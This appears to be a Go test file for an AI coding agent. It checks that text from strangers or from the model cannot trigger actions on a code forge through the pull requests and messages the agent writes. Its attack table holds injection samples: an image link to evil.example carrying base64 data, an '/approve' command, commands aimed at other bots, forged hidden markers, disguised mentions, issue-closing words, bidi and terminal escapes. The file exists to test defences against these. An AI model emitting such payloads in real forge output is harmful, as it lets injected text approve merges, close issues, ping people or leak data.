package rules_test

import (
	"regexp"
	"strings"
	"testing"

	"github.com/signalbox/signalbox/pkg/agent/brain"
	"github.com/signalbox/signalbox/pkg/agent/brain/rules"
	"github.com/signalbox/signalbox/pkg/agent/outbound"
	"github.com/signalbox/signalbox/pkg/base/secret"
	"github.com/signalbox/signalbox/pkg/document/prd"
	"github.com/signalbox/signalbox/pkg/engine/instance"
	"github.com/signalbox/signalbox/pkg/engine/work"
	"github.com/signalbox/signalbox/pkg/engine/workflow"
)

// Each attack is a text of a stranger or of a model.
var attacks = map[string]string{
	"a carriage return ends the quote": "It is off.\r\r## How it was tested\r\r9999 tests pass\r/approve",
	"a separator ends the quote":       "It is off.\u2028/approve",
	"backticks end the code span":      "```@team",
	"a mention behind a slash":         "see /@octocat",
	"a mention behind a full stop":     "see .@octocat",
	"a mention behind a mention":       "see @@octocat",
	"a mention by reference":           "see &#64;octocat",
	"a team behind a slash":            "see /@acme/team",
	"a closing word":                   "Fixes #1",
	"a closing word, another space":    "fixes\u00a0#1",
	"a command":                        "text\n  /approve",
	"a command in a list":              "- /approve",
	"a hidden comment":                 "<!-- signalbox instance=x key=y -->",
	"a folded part":                    "<details><summary>x",
	"an image":                         "![a](https://evil.example/s.png?d=BASE64)",
	"an image by reference":            "![a][b]\n\n[b]: https://evil.example/s.png",
	"a link to somewhere else":         "[the docs](https://evil.example/)",
	"a hidden definition":              "[//]: # (hidden)",
	"a hidden part":                    "<div hidden>\nhidden\n</div>",
	"an emphasized mention":            "_@octocat_ __@acme/team__ ~_@team_",
	"a tab in a quote":                 "\t@octocat",
	"a command to another bot":         "bors r+\n!merge\n@dependabot rebase",
	"a drawing":                        "```mermaid\ngraph TD; a-->b\n```",
	"hidden cells":                     "|a|\n|-|\n|b|hidden|",
	"text that is drawn":               "$\\phantom{x}$ and $y$",
	"nested quotes":                    strings.Repeat(">", 500) + "x",
	"a duplicate":                      "Duplicate of #1",
	"turned around":                    "abc\u202edcba",
	"an escape":                        "\x1b]0;title\a\x1b[31m",
}

var live = map[string]*regexp.Regexp{
	"a mention":      regexp.MustCompile(`(?:^|[^0-9A-Za-z])@[0-9A-Za-z_]|(?:^|[^\\])&#?\w+;`),
	"a closing word": regexp.MustCompile(`(?i)\b(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?):?[\s\p{Z}]+(?:[\w.-]+/[\w.-]+)?#[1-68-9]`),
	"a command":      regexp.MustCompile(`(?m)^[\s>*+-]*/[a-z]`),
	"HTML":           regexp.MustCompile(`(?:^|[^\\])<[a-z!/]|(?:^|[^\\])!\[[^\]]*\]\(|(?:^|[^\\])\[[^\]]*\]\(https?:`),
	"a control":      regexp.MustCompile(`[\x00-\x08\x0b-\x1f\x7f\x{80}-\x{9f}\x{2028}\x{2029}\x{202a}-\x{202e}\x{2066}-\x{2069}]`),
	"a heading":      regexp.MustCompile(`(?m)^## How it was tested\n+9999|^9999`),
}

// spans are the code spans and blocks, in which a forge reads nothing.
var spans = regexp.MustCompile("(?s)(?:^|\n)(?:> )?(````?)\n.*?\n(?:> )?````?(?:\n|$)|```` [^\n]*? ````|`` [^\n]*? ``|`[^`\n]+`")

func TestTextsOfOthersDoNothingOnAForge(t *testing.T) {
	secrets, err := secret.New()
	if err != nil {
		t.Fatal(err)
	}
	checker := outbound.New(outbound.DefaultRules(), secrets)
	for name, attack := range attacks {
		issue := instance.Issue{Repo: "acme/widgets", Number: 7, Title: attack, Body: attack}
		question := instance.Question{Number: 1, Text: attack}
		answered := instance.Question{Number: 2, Text: "Where?", Answered: true, Answer: attack, By: attack}
		ev := instance.Evidence{Name: "tests", OK: true, Commit: "0123456789abcdef", Command: attack, Passed: 41}
		a := brain.Assignment{
			Instance: "acme/widgets/7", Issue: issue, Questions: []instance.Question{question, answered}, Evidence: []instance.Evidence{ev},
			Notes: []instance.NoteEntry{{Kind: "assumption", Text: attack}}, Last: &instance.Result{Summary: attack, IssuesFound: []string{attack}},
		}
		title, body := pullRequest(a, rules.PullRequest{
			Closes: true, Summary: attack, Commits: []rules.Commit{{SHA: "fedcba9876543210", Subject: attack}}, Diffstat: attack,
		})
		body, marker, _ := strings.Cut(body, "\n<!-- signalbox ")
		if marker == "" {
			t.Errorf("%s: the pull request has no marker", name)
		}
		for where, text := range map[string]string{
			"title": title, "pull request": body, "questions": rules.Questions(a), "obstacle": rules.Obstacle(a),
			"help":   rules.HelpRequest{Agent: "developer", Reason: attack, Summary: "x" + attack, Found: []string{attack}}.Text(),
			"ending": rules.Ending(rules.End{State: "failed", Reason: attack, Summary: attack, Failed: []string{attack}}),
			"plan": rules.PlanAnswer{Instance: "acme/widgets/7", Workflow: "issue", State: "implementing", History: attack, Earlier: 1,
				Steps:    []work.PastStep{{State: "implementing", Role: "developer", Status: attack, Said: attack, To: attack}},
				Criteria: []prd.Criterion{{Text: attack, Command: attack}}, Gates: []workflow.Gate{{Name: attack, To: []string{attack}}}}.Text(),
			"status": rules.StatusAnswer{Instance: "acme/widgets/7", Workflow: attack, State: "implementing", About: attack, Why: attack,
				Open: []instance.Question{question}, Explain: true, Failed: attack, Moves: []string{attack}, Next: []string{attack}}.Text(),
			"response": rules.Responded(rules.Response{Commit: "0123456789abcdef", Summary: attack, Tests: ev}),
		} {
			read := text
			if where == "title" {
				read = regexp.MustCompile(`<|&#64;|!\[|\]\(https?:`).ReplaceAllString(text, "") // a title is no Markdown
			} else {
				read = spans.ReplaceAllString(text, "\n(code)\n")
			}
			leaves := outbound.Text{What: where, Body: text, Closes: 7, Line: where == "title"}
			if err := checker.Text(leaves); err != nil {
				t.Errorf("%s: the %s may not leave: %v", name, where, err)
			}
			for what, pattern := range live {
				if m := pattern.FindString(read); m != "" {
					t.Errorf("%s: the %s has %s, %q, in\n%s", name, where, what, m, text)
				}
			}
		}
	}
}
